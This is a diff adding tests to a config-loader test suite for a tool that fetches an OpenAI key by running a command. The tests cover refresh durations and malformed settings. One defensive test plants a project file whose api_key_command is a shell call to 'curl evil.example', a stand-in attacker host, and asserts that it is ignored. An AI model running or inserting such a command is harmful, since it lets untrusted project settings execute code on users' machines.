@@ -125,6 +125,19 @@ for (const { table, at, api } of understood) {
   });
 }
 
+test.each([
+  { refresh: "", refreshMs: 300_000, spelled: "5m" },
+  { refresh: 'api_key_refresh = "90m"', refreshMs: 5_400_000, spelled: "90m" },
+  { refresh: 'api_key_refresh = "3600s"', refreshMs: 3_600_000, spelled: "1h" },
+])("a key from a command, asked again after $spelled", async ({ refresh, refreshMs, spelled }) => {
+  await write(`${OPENAI}api_key_command = ["op", "read", "op://My Vault/k"]\n${refresh}\n`);
+  const words = ["op", "read", "op://My Vault/k"];
+  expect((await open().read()).integrations[0]?.apiKeyCommand).toEqual({ words, refreshMs });
+  const listed = new Map((await open().list()).map(({ key, value }) => [key, value]));
+  expect(listed.get("integrations.openai.api_key_command")).toBe('["op", "read", "op://My Vault/k"]');
+  expect(listed.get("integrations.openai.api_key_refresh")).toBe(spelled);
+});
+
 const invalid: readonly { name: string; text: string; want: readonly string[]; environment?: Environment }[] =
   [
     { name: "not TOML", text: "\n[gateway\n", want: ["FILE:2: "] },
@@ -148,6 +161,54 @@ const invalid: readonly { name: string; text: string; want: readonly string[]; e
       text: `${OPENAI}api_key = "sk-very-secret"\n`,
       want: [
         "FILE:3: keys do not belong in this file: remove api_key and run portkey-codex integration update openai --api-key-stdin",
+      ],
+    },
+    {
+      name: "a shell's line instead of words",
+      text: `${OPENAI}api_key_command = "op read op://a/b/c"\n`,
+      want: ['FILE:3: api_key_command must be a list of words, e.g. ["gcloud",'],
+    },
+    {
+      name: "words that are no texts",
+      text: `${OPENAI}api_key_command = ["pass", 1]\n`,
+      want: ["FILE:3: api_key_command must be a list of words"],
+    },
+    {
+      name: "no words",
+      text: `${OPENAI}api_key_command = []\n`,
+      want: ["FILE:3: api_key_command: it is empty"],
+    },
+    {
+      name: "a program in the folder where somebody happens to stand",
+      text: `${OPENAI}api_key_command = ["./token.sh"]\n`,
+      want: ["FILE:3: api_key_command: the gateway runs in another folder"],
+    },
+    {
+      name: "a key among the words, which is not repeated",
+      text: `${OPENAI}api_key_command = ["echo", "sk-proj-abcdefghijklmnopqrstuvwx"]\n`,
+      want: ["FILE:3: api_key_command: it holds a key of OpenAI; a command must fetch"],
+    },
+    {
+      name: "a command and a variable",
+      text: `${OPENAI}api_key_env = "K"\napi_key_command = ["pass"]\n`,
+      want: ["FILE:4: api_key_command and api_key_env exclude each other"],
+    },
+    {
+      name: "a refresh without a command",
+      text: `${OPENAI}api_key_refresh = "5m"\n`,
+      want: ["FILE:3: api_key_refresh says how long the key of an api_key_command is used; there is none"],
+    },
+    {
+      name: "a refresh that is none",
+      text: `${OPENAI}api_key_command = ["pass"]\napi_key_refresh = "0s"\n`,
+      want: ["FILE:4: api_key_refresh must be a duration from 1s to 24h, such as 45m"],
+    },
+    {
+      name: "typos of both",
+      text: `${OPENAI}api_key_comand = ["pass"]\napi_key_refesh = "5m"\n`,
+      want: [
+        'FILE:3: there is no setting "api_key_comand" here; did you mean api_key_command?',
+        'FILE:4: there is no setting "api_key_refesh" here; did you mean api_key_refresh?',
       ],
     },
     {
@@ -245,6 +306,16 @@ test("a project cannot redirect traffic, and cannot break anything", async () =>
     "PROJECT:5: secrets.store cannot be set by a project, only in your own settings",
     expect.stringContaining('PROJECT:6: there is no setting "integrations.openai"'),
   ]);
+});
+
+test("a project cannot have a command run", async () => {
+  await write(OPENAI);
+  const evil = '[integrations.openai]\napi_key_command = ["sh", "-c", "curl evil.example"]\n';
+  await writeFile(join(folder, ".portkey-codex.toml"), `api_key_command = ["sh"]\n${evil}`);
+  const store = open();
+  expect((await store.read()).integrations[0]?.apiKeyCommand).toBeUndefined();
+  expect((await store.list()).map(({ key }) => key).join()).not.toContain("api_key_command");
+  expect(await store.projectProblems()).toHaveLength(2);
 });
 
 test("a folder that was deleted under our feet is no obstacle", async () => {
